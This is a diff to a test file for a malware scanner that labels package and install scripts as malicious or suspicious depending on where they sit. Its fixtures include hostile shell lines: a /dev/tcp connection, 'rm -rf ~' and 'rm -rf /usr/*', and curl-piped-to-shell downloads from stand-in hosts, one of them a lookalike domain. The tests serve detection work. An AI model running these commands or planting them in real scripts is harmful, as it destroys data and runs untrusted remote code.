@@ -156,17 +156,27 @@ def test_scripts_may_test_ports_clean_up_and_install_tools(name, content):
         b"cat </dev/tcp/files.example/99\n",
         b"rm -rf ~\n",
         b"rm -rf /usr/*\n",
-        b"curl -LsSf https://astral.sh.evil.example/i | sh\n",
     ],
 )
 def test_hostile_scripts_are_hostile(content):
     assert _scan("run.sh", content) is Verdict.MALICIOUS
 
 
-def test_a_script_of_a_package_that_pipes_into_a_shell_is_hostile():
-    content = b"curl -s https://files.example/i | sh\n"
-    name = "tool-1.data/scripts/python3.sh"
-    assert _scan(name, content, *_INSTALLED) is Verdict.MALICIOUS
+@each("host", ["files.example", "astral.sh.evil.example"])
+@each(
+    ("name", "verdict"),
+    [
+        ("run.sh", Verdict.SUSPICIOUS),
+        ("tool/run.sh", Verdict.SUSPICIOUS),
+        ("tool-1.data/scripts/python3.sh", Verdict.MALICIOUS),
+        ("tool-1.data/data/etc/profile.d/a.sh", Verdict.MALICIOUS),
+        ("bin/.tool-post-link.sh", Verdict.MALICIOUS),
+        ("weights.llamafile", Verdict.MALICIOUS),
+    ],
+)
+def test_what_an_unknown_host_serves_is_hostile_where_nobody_asks_for_it(host, name, verdict):
+    content = f"#!/bin/sh\ncurl -LsSf https://{host}/i | sh\n".encode()
+    assert _scan(name, content, *_INSTALLED) is verdict
 
 
 _INCLUDES = b"{% include 'base.html' %}{{ self.title() }}"
